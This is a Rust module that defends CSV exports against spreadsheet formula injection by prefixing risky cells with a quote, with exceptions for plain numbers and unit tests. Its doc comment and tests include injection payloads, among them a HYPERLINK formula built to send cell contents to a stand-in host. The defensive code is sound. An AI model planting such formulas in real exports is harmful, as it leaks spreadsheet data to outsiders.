//! Cells of the CSV files people open in spreadsheets (finance reports, PRODUCT.md §5):
//! a cell that a spreadsheet would read as a formula is neutralized, so that a partner
//! name such as `=HYPERLINK("http://x/?"&A1)` exported in a report stays text.
//!
//! The rule follows OWASP ASVS 5.0 requirement 1.2.10 and OWASP's "CSV Injection"
//! page: a cell whose first character is `=`, `+`, `-`, `@`, a tab, a carriage return
//! or NUL gets a single quote (`'`) in front. Quoting the cell (RFC 4180: quotes,
//! separators, line breaks) is the CSV writer's job, not this function's.
//!
//! One exception, decided here: a cell that is exactly a plain decimal number (`-150`,
//! `-1.50`, `+3`) is left alone. A spreadsheet reads it as that number and nothing
//! else, and amounts (credit notes, a negative deferred balance) must stay numbers a
//! sum can add; `-1+2`, `-A1` or `- 1` are not plain numbers and are neutralized.

use std::borrow::Cow;

/// The characters that make a spreadsheet treat a cell as a formula when they come first.
pub const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

/// `cell` as it may go into a CSV export: `'` prepended when it starts with one of
/// [`FORMULA_STARTS`] and is not a plain number (see the module's documentation);
/// unchanged (borrowed) otherwise.
pub fn csv_cell(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if FORMULA_STARTS.contains(&first) && !is_plain_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// An optional sign, digits, and optionally a point and more digits; nothing else.
fn is_plain_number(cell: &str) -> bool {
    let unsigned = cell
        .strip_prefix('-')
        .or_else(|| cell.strip_prefix('+'))
        .unwrap_or(cell);
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    match unsigned.split_once('.') {
        None => digits(unsigned),
        Some((whole, fraction)) => digits(whole) && digits(fraction),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_neutralized() {
        for (cell, out) in [
            ("=1+1", "'=1+1"),
            ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
            ("+1+1", "'+1+1"),
            ("-1+1", "'-1+1"),
            ("-A1", "'-A1"),
            ("- 1", "'- 1"),
            ("--1", "'--1"),
            ("-", "'-"),
            ("+", "'+"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("\0=1", "'\0=1"),
            ("-1.5e3", "'-1.5e3"),
            ("-.5", "'-.5"),
        ] {
            assert_eq!(csv_cell(cell), out, "{cell:?}");
        }
    }

    #[test]
    fn other_cells_and_plain_numbers_are_unchanged() {
        for cell in [
            "",
            "Acme AI",
            "a=b",
            " =1",
            "'=1",
            "1500",
            "-150",
            "-1.50",
            "+3",
            "2024-02-01",
            "60000000.00",
        ] {
            assert!(
                matches!(csv_cell(cell), Cow::Borrowed(c) if c == cell),
                "{cell:?}"
            );
        }
    }
}
